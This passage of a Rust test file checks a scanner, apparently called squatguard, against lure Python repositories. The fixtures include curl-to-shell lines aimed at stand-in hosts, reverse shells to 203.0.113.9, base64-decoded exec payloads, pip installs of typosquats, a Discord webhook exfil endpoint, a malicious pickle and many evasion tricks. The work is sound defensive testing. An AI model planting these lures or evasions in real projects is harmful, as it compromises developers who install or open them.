        "{\n  // build on demand\n  \"version\": \"2.0.0\",\n  \"tasks\": [{\"label\": \"test\", \"command\": \"pytest\"}],\n}\n",
    );
    let out = squatguard(root, &["scan", "--format", "json"]);
    let all = findings(&out);
    assert!(
        all.iter().all(|f| f["severity"] == "note"),
        "{}",
        serde_json::to_string_pretty(&all).unwrap()
    );
    assert_eq!(out.status.code(), Some(0));
    // every one of them was read: 6 Python files, the shebang script, the notebook, the
    // archive, the tasks file, and setup.py as a manifest
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["summary"]["files"], 11, "{doc}");
}

/// Lures that once passed with exit 0, each alone in its own repository: a `setup.py` that asks
/// pip to install a typosquat (as a list of arguments and as a shell line), a builtin looked up
/// by a Caesar-shifted name, a native module that the repository's own `RECORD` claims is
/// installed, and a compiled module without its source inside a package. Payloads are harmless
/// (they would write a marker under a temp dir) and are never run; the marker stays absent.
#[test]
fn each_lure_alone_fails_the_scan() {
    let marker_dir = tempfile::tempdir().unwrap();
    let marker = marker_dir.path().join("marker");
    let echo = format!("echo hello > {}", marker.display());
    let hello = base64(b"print(\"hello\")");
    let caesar: String = "exec".chars().map(|c| char::from(c as u8 + 3)).collect();
    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
    elf.extend([0u8; 56]);
    type Files = Vec<(&'static str, Vec<u8>)>;
    type Expected = (&'static str, &'static str, u64, &'static str);
    let cases: Vec<(&str, Files, Expected)> = vec![
        (
            "setup.py installs a typosquat with pip",
            vec![(
                "setup.py",
                "import subprocess, sys\nfrom setuptools import setup\nsubprocess.check_call([sys.executable, \"-m\", \"pip\", \"install\", \"--quiet\", \"reqeusts\"])\nsetup(name=\"app\")\n".into(),
            )],
            ("typosquat", "setup.py", 3, "error"),
        ),
        (
            "setup.py installs a typosquat through the shell",
            vec![(
                "setup.py",
                "import os\nfrom setuptools import setup\nos.system(\"pip install -U colourama==0.4.6 && true\")\nsetup(name=\"app\")\n".into(),
            )],
            ("typosquat", "setup.py", 3, "error"),
        ),
        (
            "setup.py runs pip in its own process",
            vec![(
                "setup.py",
                "from setuptools import setup\nfrom pip._internal.cli.main import main as _pip\n_pip([\"install\", \"-q\", \"reqeusts\"])\nsetup(name=\"app\")\n".into(),
            )],
            ("typosquat", "setup.py", 3, "error"),
        ),
        (
            "setup.py runs old pip's main in its own process",
            vec![(
                "setup.py",
                "import pip\nfrom setuptools import setup\npip.main(args=[\"install\", \"colourama\"])\nsetup(name=\"app\")\n".into(),
            )],
            ("typosquat", "setup.py", 3, "error"),
        ),
        (
            "a builtin looked up by a Caesar-shifted name",
            vec![(
                "shifted/__init__.py",
                format!("_f = getattr(__builtins__, ''.join(chr(ord(c) - 3) for c in '{caesar}'))\n_f('print(\"hello\")')\n").into_bytes(),
            )],
            ("obfuscation", "shifted/__init__.py", 1, "error"),
        ),
        (
            "a native module the repository's own RECORD lists",
            vec![
                ("app/__init__.py", b"from . import _speedups\n".to_vec()),
                ("app/_speedups.cpython-311-x86_64-linux-gnu.so", elf.clone()),
                (
                    "app-1.0.dist-info/RECORD",
                    b"app/__init__.py,,\napp/_speedups.cpython-311-x86_64-linux-gnu.so,,\n".to_vec(),
                ),
            ],
            (
                "opaque-code",
                "app/_speedups.cpython-311-x86_64-linux-gnu.so",
                1,
                "error",
            ),
        ),
        (
            "a compiled module without source inside a package",
            vec![
                ("app/__init__.py", b"from . import helper\n".to_vec()),
                ("app/helper.pyc", b"\x55\x0d\x0d\x0a\x00\x00\x00\x00compiled".to_vec()),
            ],
            ("opaque-code", "app/helper.pyc", 1, "error"),
        ),
        (
            "a download run as code at import",
            vec![(
                "fetched/__init__.py",
                b"from urllib.request import urlopen\nexec(urlopen(\"https://example.invalid/y\").read())\n".to_vec(),
            )],
            ("decode-exec", "fetched/__init__.py", 2, "error"),
        ),
        (
            "a decoded command",
            vec![(
                "shell/__init__.py",
                format!(
                    "import base64, os\nos.system(base64.b64decode(\"{}\"))\n",
                    base64(echo.as_bytes())
                )
                .into_bytes(),
            )],
            ("decode-exec", "shell/__init__.py", 2, "error"),
        ),
        (
            "a module imported by a decoded name",
            vec![(
                "loader/__init__.py",
                format!(
                    "import base64, importlib
m = importlib.import_module(base64.b64decode(\"{}\").decode())
m.system(\"{echo}\")
",
                    base64(b"os")
                )
                .into_bytes(),
            )],
            ("decode-exec", "loader/__init__.py", 2, "error"),
        ),
        (
            "a decoded payload run by a thread at import",
            vec![(
                "threaded/__init__.py",
                format!("import base64, threading\ndef _work():\n    exec(base64.b64decode(\"{hello}\"))\nthreading.Thread(target=_work).start()\n").into_bytes(),
            )],
            ("decode-exec", "threaded/__init__.py", 3, "error"),
        ),
    ];
    for (what, files, (rule, file, line, severity)) in cases {
        let dir = tempfile::tempdir().unwrap();
        for (path, text) in &files {
            write(dir.path(), path, text);
        }
        let out = squatguard(dir.path(), &["scan", "--format", "json"]);
        assert_eq!(
            out.status.code(),
            Some(1),
            "{what}: {}",
            String::from_utf8_lossy(&out.stdout)
        );
        assert_fires(&findings(&out), rule, file, line, severity);
    }
    assert!(!marker.exists());
}

/// What still needs a reader: a run whose worst finding is a warning says so on its summary
/// line; honest install-time pip calls, builtins chosen by a variable and a distribution's
/// own `RECORD` in a tree the user trusts stay below errors.
#[test]
fn warnings_ask_for_a_reading_and_honest_code_stays_below_errors() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(
        root,
        "setup.py",
        "import subprocess, sys\nfrom setuptools import setup\nsubprocess.check_call([sys.executable, \"-m\", \"pip\", \"install\", \"numpy>=1.20\"])\nsetup(name=\"app\")\n",
    );
    write(
        root,
        "app/__init__.py",
        "import builtins\n\n\ndef op(name):\n    return getattr(builtins, name.lower())\n",
    );
    let out = squatguard(root, &["scan"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{text}");
    assert!(
        text.contains("warning[install-time-code]")
            && text.contains("(1 dependency checked): read the code flagged by each warning before you install, import, test or run this repository"),
        "{text}"
    );
    assert!(!text.contains("error["), "{text}");

    // a site-packages of the user's own: its RECORD is believed
    let site = tempfile::tempdir().unwrap();
    let site = site.path();
    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
    elf.extend([0u8; 56]);
    write(site, "app/__init__.py", "from . import _speedups\n");
    write(site, "app/_speedups.so", &elf);
    write(
        site,
        "app-1.0.dist-info/RECORD",
        "app/__init__.py,,\napp/_speedups.so,,\n",
    );
    let out = squatguard(site, &["scan", "--trusted", "--format", "json"]);
    assert_eq!(out.status.code(), Some(0));
    assert_fires(
        &findings(&out),
        "opaque-code",
        "app/_speedups.so",
        1,
        "warning",
    );
    assert_fires(
        &scan_failing(site),
        "opaque-code",
        "app/_speedups.so",
        1,
        "error",
    );
}

/// Dev container lifecycle commands run when the container is created or started
/// (`initializeCommand` on the host): each is reported at its key, an error when it pipes a
/// download to a shell; a `tasks.json` or dev container definition this reader cannot read is
/// reported, an error when it names a command run on its own.
#[test]
fn editor_files_that_run_commands_are_read_or_reported() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(
        root,
        ".devcontainer/py/devcontainer.json",
        "{\n  // the lure's container\n  \"image\": \"python:3.12\",\n  \"initializeCommand\": [\"sh\", \"-c\", \"curl -s https://example.invalid/x | sh\"],\n  \"postCreateCommand\": {\"deps\": \"pip install -e .\"},\n}\n",
    );
    let all = scan_failing(root);
    assert_fires(
        &all,
        "import-time-code",
        ".devcontainer/py/devcontainer.json",
        4,
        "error",
    );
    assert_fires(
        &all,
        "import-time-code",
        ".devcontainer/py/devcontainer.json",
        5,
        "warning",
    );

    // an honest one alone: a warning, exit 0
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        ".devcontainer.json",
        "{\"image\": \"python:3.12\", \"postCreateCommand\": \"pip install -e .\"}\n",
    );
    let out = squatguard(dir.path(), &["scan", "--format", "json"]);
    assert_eq!(out.status.code(), Some(0));
    assert_fires(
        &findings(&out),
        "import-time-code",
        ".devcontainer.json",
        1,
        "warning",
    );

    // not JSON to this reader, but naming a task run on opening the folder
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        ".vscode/tasks.json",
        "{\"tasks\": [{\"command\": \"sh\", \"runOptions\": {\"runOn\": \"folderOpen\"}} /* */ ;]}\n",
    );
    let all = scan_failing(dir.path());
    assert_fires(&all, "opaque-code", ".vscode/tasks.json", 1, "error");
}

/// Modules that code running unasked imports run unasked too: a submodule `__init__.py`
/// imports (relatively, through a subpackage, or by its absolute name) and a helper `setup.py`
/// imports are judged as import-time and install-time code; a module nothing imports is not.
/// Payloads are harmless and never run.
#[test]
fn modules_imported_on_import_or_install_are_entry_points() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(
        root,
        "pkg/__init__.py",
        "from .sub import helpers\nimport pkg.b\n",
    );
    write(root, "pkg/sub/__init__.py", "");
    write(
        root,
        "pkg/sub/helpers.py",
        "import subprocess\nsubprocess.Popen([\"sh\", \"-c\", \"echo hello\"])\n",
    );
    write(root, "pkg/b.py", "import os\nos.system(\"echo hello\")\n");
    write(
        root,
        "pkg/unused.py",
        "import os\nos.system(\"echo hello\")\n",
    );
    write(
        root,
        "setup.py",
        "from setuptools import setup\nimport tools.prep\nsetup(name=\"app\")\n",
    );
    write(
        root,
        "tools/prep.py",
        "import os\nos.system(\"curl -s https://example.invalid/x | sh\")\n",
    );
    let all = scan_failing(root);
    assert_fires(&all, "import-time-code", "pkg/sub/helpers.py", 2, "warning");
    assert_fires(&all, "import-time-code", "pkg/b.py", 2, "warning");
    assert_fires(&all, "install-time-code", "tools/prep.py", 2, "error");
    assert!(!all.iter().any(|f| f["file"] == "pkg/unused.py"), "{all:?}");
}

/// Every evasion issue 18 lists, each alone in its own repository with a payload that only
/// the followed call, the entry point or the text read as Python makes hostile: each must fail
/// the scan (exit 1) with the finding at the line where the payload runs. Payloads decode to
/// `print("hello")` or would write a marker under a temp dir; nothing scanned is run, and the
/// marker stays absent.
#[test]
fn each_evasion_of_issue_18_alone_exits_1() {
    let marker_dir = tempfile::tempdir().unwrap();
    let marker = marker_dir.path().join("marker");
    let echo = format!("echo hello > {}", marker.display());
    let hello = base64(b"print(\"hello\")");
    let payload = format!("import base64\nexec(base64.b64decode(\"{hello}\"))\n");
    let piped = "curl -s https://example.invalid/x | sh";
    let launch = format!("import subprocess\nsubprocess.run(\"{piped}\", shell=True)\n");
    let caesar: String = "print(\"hello\")"
        .chars()
        .map(|c| char::from(c as u8 + 3))
        .collect();
    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
    elf.extend([0u8; 56]);
    let notebook = format!(
        "{{\"cells\": [{{\"cell_type\": \"code\", \"metadata\": {{}}, \"source\": [\"import base64\\n\",\n \"exec(base64.b64decode(\\\"{hello}\\\"))\\n\"]}}], \"nbformat\": 4, \"nbformat_minor\": 5}}\n"
    );
    let bold_subprocess = "\u{1d42c}\u{1d42e}\u{1d41b}\u{1d429}\u{1d42b}\u{1d428}\u{1d41c}\u{1d41e}\u{1d42c}\u{1d42c}";
    let mut big = "x = 1\n".repeat(1_500_000);
    big.push_str(&payload);
    // (what, files, (rule, file, text on the line, severity))
    type Case = (
        &'static str,
        Vec<(&'static str, Vec<u8>)>,
        (&'static str, &'static str, &'static str, &'static str),
    );
    let s = |t: &str| t.as_bytes().to_vec();
    let cases: Vec<Case> = vec![
        ("exec through an alias", vec![("alias/__init__.py", s(&format!("_run = exec\nimport base64\n_run(base64.b64decode(\"{hello}\"))\n")))], ("decode-exec", "alias/__init__.py", "_run(", "error")),
        ("list(map(exec, ...))", vec![("mapped/__init__.py", s(&format!("import base64\nlist(map(exec, [base64.b64decode(\"{hello}\")]))\n")))], ("decode-exec", "mapped/__init__.py", "map(exec", "error")),
        ("compile and eval aliased in conftest.py", vec![("tests/conftest.py", s(&format!("import base64\n_c = compile\n_e = eval\n_e(_c(base64.b64decode(\"{hello}\"), \"x\", \"exec\"))\n")))], ("decode-exec", "tests/conftest.py", "_e(_c(", "error")),
        ("runpy.run_path of LICENSE.txt", vec![("runner/__init__.py", s("import runpy\nrunpy.run_path(\"LICENSE.txt\")\n")), ("LICENSE.txt", s(&launch))], ("import-time-code", "LICENSE.txt", "subprocess.run(", "error")),
        ("pickle.loads(b64decode(...))", vec![("pickled/__init__.py", s(&format!("import pickle\nfrom base64 import b64decode\n\n\ndef load():\n    return pickle.loads(b64decode(\"{hello}\"))\n")))], ("decode-exec", "pickled/__init__.py", "pickle.loads", "error")),
        ("__import__('os').system of a decoded command", vec![("imported/__init__.py", s(&format!("import base64\n__import__('os').system(base64.b64decode('{}'))\n", base64(echo.as_bytes()))))], ("decode-exec", "imported/__init__.py", "__import__", "error")),
        ("__import__('os').system piping a download to a shell", vec![("imported/__init__.py", s(&format!("__import__('os').system('{piped}')\n")))], ("import-time-code", "imported/__init__.py", "__import__", "error")),
        ("os.system(b64decode(...))", vec![("shell/__init__.py", s(&format!("import base64, os\nos.system(base64.b64decode(\"{}\"))\n", base64(echo.as_bytes()))))], ("decode-exec", "shell/__init__.py", "os.system", "error")),
        ("exec(requests.get(url).text)", vec![("fetched/__init__.py", s("import requests\nexec(requests.get(\"https://example.invalid/x\").text)\n"))], ("decode-exec", "fetched/__init__.py", "exec(", "error")),
        ("exec(urlopen(url).read())", vec![("fetched/__init__.py", s("from urllib.request import urlopen\nexec(urlopen(\"https://example.invalid/y\").read())\n"))], ("decode-exec", "fetched/__init__.py", "exec(", "error")),
        ("download, chmod, Popen", vec![("dropper/__init__.py", s("import os, subprocess, urllib.request\n\n\ndef _fetch():\n    path = os.path.expanduser(\"~/.cache/tool\")\n    urllib.request.urlretrieve(\"https://example.invalid/tool\", path)\n    os.chmod(path, 0o755)\n    subprocess.Popen([path])\n"))], ("hidden-process", "dropper/__init__.py", "os.chmod", "error")),
        ("a thread started at import", vec![("threaded/__init__.py", s(&format!("import subprocess, threading\n\n\ndef _work():\n    subprocess.run(\"{piped}\", shell=True)\n\n\nthreading.Thread(target=_work).start()\n")))], ("import-time-code", "threaded/__init__.py", "threading.Thread", "error")),
        ("exec(open(path).read()) of a .dat file", vec![("data/__init__.py", s("import os\nexec(open(os.path.join(os.path.dirname(__file__), \"blob.dat\")).read())\n")), ("data/blob.dat", s(&launch))], ("import-time-code", "data/blob.dat", "subprocess.run(", "error")),
        ("a .dat file opened through a variable and a with-block", vec![("data/__init__.py", s("import os\n_p = os.path.join(os.path.dirname(__file__), \"blob.dat\")\nwith open(_p) as _f:\n    exec(_f.read())\n")), ("data/blob.dat", s(&launch))], ("import-time-code", "data/blob.dat", "subprocess.run(", "error")),
        ("a .dat file opened into a variable", vec![("data/__init__.py", s("_f = open(\"blob.dat\")\nexec(compile(_f.read(), \"x\", \"exec\"))\n")), ("data/blob.dat", s(&launch))], ("import-time-code", "data/blob.dat", "subprocess.run(", "error")),
        ("setup.py runs pip in its own process", vec![("setup.py", s("import pip\nfrom setuptools import setup\npip.main([\"install\", \"reqeusts\"])\nsetup(name=\"app\")\n"))], ("typosquat", "setup.py", "pip.main", "error")),
        ("runpy.run_module(\"pip\") on a sys.argv the file sets", vec![("setup.py", s("import runpy, sys\nfrom setuptools import setup\nsys.argv = [\"pip\", \"install\", \"reqeusts\"]\nrunpy.run_module(\"pip\", run_name=\"__main__\")\nsetup(name=\"app\")\n"))], ("typosquat", "setup.py", "sys.argv = ", "error")),
        ("runpy.run_module(\"pip\") after sys.argv[1:] is set", vec![("setup.py", s("import sys\nimport runpy as _r\nfrom setuptools import setup\nsys.argv[1:] = [\"install\", \"-q\", \"colourama\"]\n_r.run_module(\"pip\", run_name=\"__main__\", alter_sys=True)\nsetup(name=\"app\")\n"))], ("typosquat", "setup.py", "sys.argv[1:]", "error")),
        ("pip's main looked up by getattr", vec![("setup.py", s("import pip\nfrom setuptools import setup\ngetattr(pip, \"main\")([\"install\", \"reqeusts\"])\nsetup(name=\"app\")\n"))], ("typosquat", "setup.py", "getattr(pip", "error")),
        ("os.system looked up by getattr", vec![("shell/__init__.py", s(&format!("import os\ngetattr(os, \"system\")(\"{piped}\")\n")))], ("import-time-code", "shell/__init__.py", "getattr(os", "error")),
        ("pip's own options before install", vec![("setup.py", s("from setuptools import setup\nfrom pip import main as _m\n_pm = _m\n_pm([\"--isolated\", \"-q\", \"install\", \"reqeusts\"])\nsetup(name=\"app\")\n"))], ("typosquat", "setup.py", "_pm([", "error")),
        ("if __name__ != '__main__':", vec![("notmain/__init__.py", s(&format!("import subprocess\nif __name__ != \"__main__\":\n    subprocess.run(\"{piped}\", shell=True)\n")))], ("import-time-code", "notmain/__init__.py", "subprocess.run(", "error")),
        ("pytest_configure in conftest.py", vec![("conftest.py", s(&format!("import subprocess\n\n\ndef pytest_configure(config):\n    subprocess.run(\"{piped}\", shell=True)\n")))], ("import-time-code", "conftest.py", "def pytest_configure", "error")),
        ("@atexit.register", vec![("exiting/__init__.py", s(&format!("import atexit, subprocess\n\n\n@atexit.register\ndef _bye():\n    subprocess.run(\"{piped}\", shell=True)\n")))], ("import-time-code", "exiting/__init__.py", "def _bye", "error")),
        ("a call in a default argument", vec![("default/__init__.py", s(&format!("import subprocess\n\n\ndef f(x=subprocess.run(\"{piped}\", shell=True)):\n    return x\n")))], ("import-time-code", "default/__init__.py", "def f(", "error")),
        ("an in-tree build backend", vec![("pyproject.toml", s("[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n")), ("backend.py", s(&format!("{launch}\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    raise NotImplementedError\n")))], ("install-time-code", "backend.py", "subprocess.run(", "error")),
        ("setup.py installs a typosquat with pip", vec![("setup.py", s("import subprocess, sys\nfrom setuptools import setup\nsubprocess.check_call([sys.executable, \"-m\", \"pip\", \"install\", \"reqeusts\"])\nsetup(name=\"app\")\n"))], ("typosquat", "setup.py", "check_call", "error")),
        ("a folderOpen task", vec![(".vscode/tasks.json", s(&format!("{{\n  \"version\": \"2.0.0\",\n  \"tasks\": [{{\"label\": \"s\", \"command\": \"{echo}\",\n    \"runOptions\": {{\"runOn\": \"folderOpen\"}}}}]\n}}\n")))], ("import-time-code", ".vscode/tasks.json", "folderOpen", "error")),
        ("a lone \\r after a comment", vec![("cr/__init__.py", s(&format!("# helpers\rimport base64\rexec(base64.b64decode(\"{hello}\"))\n")))], ("decode-exec", "cr/__init__.py", "", "error")),
        ("a utf-7 coding cookie", vec![("seven/__init__.py", s("# -*- coding: utf-7 -*-\n+AGU-xec('print(1)')\n"))], ("obfuscation", "seven/__init__.py", "coding: utf-7", "error")),
        ("math-bold identifiers", vec![("bold/__init__.py", s(&format!("import {bold_subprocess}\n{bold_subprocess}.run(\"{piped}\", shell=True)\n")))], ("import-time-code", "bold/__init__.py", ".run(", "error")),
        ("a pyvenv.cfg in the vendored package", vec![("vendored/pyvenv.cfg", s("home = /usr/bin\n")), ("vendored/pkg/__init__.py", s(&payload))], ("decode-exec", "vendored/pkg/__init__.py", "exec(", "error")),
        ("a folder named site-packages added to sys.path", vec![("main.py", s("import sys\nsys.path.insert(0, \"lib/site-packages\")\nimport evil\n")), ("lib/site-packages/evil/__init__.py", s(&launch))], ("import-time-code", "lib/site-packages/evil/__init__.py", "subprocess.run(", "error")),
        ("a file over 8 MiB in a package", vec![("app/__init__.py", s("from . import tables\n")), ("app/tables.py", s(&big))], ("opaque-code", "app/tables.py", "x = 1", "error")),
        ("a .pyc-only module", vec![("app/__init__.py", s("from . import helper\n")), ("app/helper.pyc", b"\x55\x0d\x0d\x0a\x00\x00\x00\x00compiled".to_vec())], ("opaque-code", "app/helper.pyc", "", "error")),
        ("a native extension module", vec![("app/__init__.py", s("from . import _speedups\n")), ("app/_speedups.cpython-311-x86_64-linux-gnu.so", elf.clone())], ("opaque-code", "app/_speedups.cpython-311-x86_64-linux-gnu.so", "", "error")),
        ("a .zip on sys.path", vec![("main.py", s("import sys\nsys.path.insert(0, \"deps.zip\")\nimport vendor\n")), ("deps.zip", zip_of(&[("vendor/__init__.py", payload.as_bytes())]))], ("decode-exec", "deps.zip/vendor/__init__.py", "", "error")),
        ("a notebook", vec![("analysis.ipynb", s(&notebook))], ("decode-exec", "analysis.ipynb", "exec(", "error")),
        ("an extensionless Python script run by a shell script", vec![("bin/run", s(&format!("#!/usr/bin/env python3\n{payload}"))), ("run.sh", s("#!/bin/sh\n./bin/run\n"))], ("decode-exec", "bin/run", "exec(", "error")),
        ("subprocess.run('curl ... | sh', shell=True) at import", vec![("vendor/__init__.py", s(&launch))], ("import-time-code", "vendor/__init__.py", "subprocess.run(", "error")),
        ("a reverse shell in conftest.py", vec![("conftest.py", s("import subprocess\nsubprocess.call(\"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\", shell=True)\n"))], ("import-time-code", "conftest.py", "subprocess.call", "error")),
        ("a reverse shell in Python in conftest.py", vec![("conftest.py", s("import os, socket, subprocess\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect((\"203.0.113.9\", 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call([\"/bin/sh\", \"-i\"])\n"))], ("import-time-code", "conftest.py", "subprocess.call", "error")),
        ("a Caesar-shifted builtin name", vec![("shifted/__init__.py", s("_f = getattr(__builtins__, ''.join(chr(ord(c) - 3) for c in 'hahf'))\n_f('print(\"hello\")')\n"))], ("obfuscation", "shifted/__init__.py", "getattr", "error")),
        ("exec of Caesar-shifted code", vec![("shifted/__init__.py", s(&format!("code = ''.join(chr(ord(c) - 3) for c in '{caesar}')\nexec(code)\n")))], ("decode-exec", "shifted/__init__.py", "exec(code)", "error")),
        ("a local pre-commit hook", vec![(".pre-commit-config.yaml", s(&format!("repos:\n  - repo: local\n    hooks:\n      - id: setup\n        name: setup\n        entry: sh -c '{piped}'\n        language: system\n")))], ("import-time-code", ".pre-commit-config.yaml", "entry:", "error")),
        ("a Makefile target the README tells you to run", vec![("README.md", s("# App\n\nRun `make setup` before the exercise.\n")), ("Makefile", s(&format!(".PHONY: setup\nsetup: deps\n\t@echo ready\n\ndeps:\n\t{piped}\n")))], ("import-time-code", "Makefile", "curl", "error")),
        ("a script the README tells you to run", vec![("README.md", s("# App\n\n```\n$ python scripts/bootstrap.py\n```\n")), ("scripts/bootstrap.py", s(&format!("import subprocess\n\n\ndef main():\n    subprocess.run(\"{piped}\", shell=True)\n\n\nif __name__ == \"__main__\":\n    main()\n")))], ("import-time-code", "scripts/bootstrap.py", "    main()", "error")),
    ];
    let mut missed: Vec<String> = Vec::new();
    for (what, files, (rule, file, needle, severity)) in cases {
        let dir = tempfile::tempdir().unwrap();
        for (path, text) in &files {
            write(dir.path(), path, text);
        }
        // lines a text editor does not show as such: the third `\r`-line, an archive member's
        let line = if needle.is_empty() {
            match file {
                "cr/__init__.py" => 3,
                "deps.zip/vendor/__init__.py" => 2,
                _ => 1,
            }
        } else {
            line_of(dir.path(), file, needle)
        };
        let out = squatguard(dir.path(), &["scan", "--format", "json"]);
        let all = findings(&out);
        let hit = all.iter().any(|f| {
            f["rule"] == rule && f["file"] == file && f["line"] == line && f["severity"] == severity
        });
        if out.status.code() != Some(1) || !hit {
            let got: Vec<String> = all
                .iter()
                .map(|f| {
                    format!(
                        "{}:{} {}[{}]",
                        f["file"], f["line"], f["severity"], f["rule"]
                    )
                })
                .collect();
            missed.push(format!(
                "{what}: exit {:?}, expected {severity}[{rule}] at {file}:{line}; got {got:?}",
                out.status.code()
            ));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
    assert!(!marker.exists());
}

/// What the project's own instructions run is read as code that runs: a shell script the
/// README names, the Python script it runs (main guard included: a script run by name is
/// `__main__`), a pre-commit hook's script. An honest project's instructions (`make test`,
/// `python manage.py migrate`, a local `mypy` hook) stay below errors, the hook a warning.
#[test]
fn instructions_the_project_gives_are_followed() {
    let piped = "curl -s https://example.invalid/x | sh";
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(
        root,
        "README.md",
        "# Exercise\n\nSet up with:\n\n```sh\n$ ./install.sh && make\n```\n",
    );
    write(
        root,
        "install.sh",
        "#!/bin/sh\nset -e\npython3 -u tools/setup_env.py --quiet\n",
    );
    write(
        root,
        "tools/setup_env.py",
        format!("import subprocess\n\n\ndef main():\n    subprocess.run(\"{piped}\", shell=True)\n\n\nif __name__ == \"__main__\":\n    main()\n"),
    );
    write(root, "Makefile", "all:\n\t$(PYTHON) -m tools.build\n");
    write(
        root,
        "tools/build.py",
        "import os\nos.system(\"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\")\n",
    );
    write(
        root,
        ".pre-commit-config.yaml",
        "repos:\n  - repo: local\n    hooks:\n      - {id: fmt, name: fmt, entry: hooks/fmt, language: script}\n",
    );
    let hello = base64(b"print(\"hello\")");
    write(
        root,
        "hooks/fmt",
        format!("#!/usr/bin/env python3\nimport base64\nexec(base64.b64decode(\"{hello}\"))\n"),
    );
    let all = scan_failing(root);
    assert_fires(&all, "import-time-code", "tools/setup_env.py", 9, "error");
    assert_fires(&all, "import-time-code", "tools/build.py", 2, "error");
    assert_fires(&all, "import-time-code", "hooks/fmt", 3, "error");
    assert_fires(
        &all,
        "import-time-code",
        ".pre-commit-config.yaml",
        4,
        "warning",
    );

    // an honest project's instructions
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(
        root,
        "README.md",
        "# App\n\nYou can make changes freely. Run `make test`, then `python manage.py migrate`\nand `bash scripts/dev.sh`. Install uv with `curl -LsSf https://astral.sh/uv/install.sh | sh`.\n",
    );
    write(
        root,
        "Makefile",
        "PY := python3\n.PHONY: test\ntest: lint\n\tpytest -q\nlint:\n\t@$(PY) -m flake8 app\n",
    );
    write(
        root,
        "manage.py",
        "import os\nimport sys\n\n\ndef main():\n    os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'app.settings')\n    from django.core.management import execute_from_command_line\n    execute_from_command_line(sys.argv)\n\n\nif __name__ == '__main__':\n    main()\n",
    );
    write(
        root,
        "scripts/dev.sh",
        "#!/bin/sh\npip install -e .\npython manage.py runserver\n",
    );
    write(
        root,
        ".pre-commit-config.yaml",
        "repos:\n  - repo: https://github.com/psf/black\n    rev: 24.1.0\n    hooks:\n      - id: black\n  - repo: local\n    hooks:\n      - id: mypy\n        name: mypy\n        entry: mypy\n        language: system\n        types: [python]\n",
    );
    let out = squatguard(root, &["scan", "--format", "json"]);
    let all = findings(&out);
    assert_eq!(out.status.code(), Some(0), "{all:#?}");
    assert!(!all.iter().any(|f| f["severity"] == "error"), "{all:#?}");
    assert_fires(
        &all,
        "import-time-code",
        ".pre-commit-config.yaml",
        10,
        "warning",
    );
}

/// A large data literal is read a piece at a time (its memory does not grow with it), and
/// what it holds is still found where it is: a payload among 100,000 strings, and a webhook
/// in a dict of numbers.
#[test]
fn large_data_literals_are_read_in_pieces() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let payload = base64("print(\"hello\")\n".repeat(20).as_bytes());
    let mut items: Vec<String> = (0..100_000).map(|i| format!("\"k{i}\"")).collect();
    items.insert(70_000, format!("\n    \"{payload}\""));
    let numbers: Vec<String> = (0..30_000).map(|i| format!("{i}: {i}.5e-3")).collect();
    write(
        root,
        "pkg/__init__.py",
        format!(
            "import base64\nTABLE = [{}]\nexec(base64.b64decode(TABLE[70000]))\nHOOKS = {{{}, -1: \"https://discord.com/api/webhooks/1/x\"}}\n",
            items.join(", "),
            numbers.join(", ")
        ),
    );
    let all = scan_failing(root);
    assert_fires(&all, "encoded-blob", "pkg/__init__.py", 3, "error");
    assert_fires(&all, "decode-exec", "pkg/__init__.py", 4, "error");
    assert_fires(&all, "exfil-endpoint", "pkg/__init__.py", 5, "error");
    let blob = all.iter().find(|f| f["rule"] == "encoded-blob").unwrap();
    assert_eq!(blob["column"], 6, "{blob}");
}

/// What honest installed code does that looks like a lure stays below errors: a cache that
/// unpickles what it decompressed, a token encoded to hex passed to a process, a native module
/// of a namespace package listed in its distribution's `RECORD` (trusted site-packages); a
/// pickle the file carries, decoded, is still an error.
#[test]
fn honest_deserializing_and_encoding_stay_below_errors() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(
        root,
        "cache/__init__.py",
        "import base64, codecs, os, pickle, subprocess, zlib\n\n\ndef get(path):\n    with open(path, 'rb') as f:\n        return pickle.loads(zlib.decompress(f.read()))\n\n\ndef get_db(value):\n    return pickle.loads(base64.b64decode(value.encode()))\n\n\ndef spawn(args):\n    token = codecs.encode(os.urandom(16), 'hex').decode()\n    return subprocess.Popen(args + ['--token', token])\n",
    );
    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
    elf.extend([0u8; 56]);
    write(root, "zope/interface/__init__.py", "");
    write(root, "zope/interface/_speedups.so", &elf);
    write(
        root,
        "zope.interface-7.0.dist-info/RECORD",
        "zope/interface/__init__.py,,\nzope/interface/_speedups.so,,\n",
    );
    let out = squatguard(root, &["scan", "--trusted", "--format", "json"]);
    let all = findings(&out);
    assert!(!all.iter().any(|f| f["severity"] == "error"), "{all:#?}");
    assert_eq!(out.status.code(), Some(0));
    assert_fires(
        &all,
        "opaque-code",
        "zope/interface/_speedups.so",
        1,
        "warning",
    );

    let hello = base64(b"cos\nsystem\n(S'echo hello'\ntR.");
    write(
        root,
        "cache/__init__.py",
        format!("import base64, pickle\nBLOB = \"{hello}\"\n\n\ndef load():\n    return pickle.loads(base64.b64decode(BLOB))\n"),
    );
    let all = scan_failing(root);
    assert_fires(&all, "decode-exec", "cache/__init__.py", 6, "error");
}

/// A file run as code is followed through a variable only where the variable is bound once: a
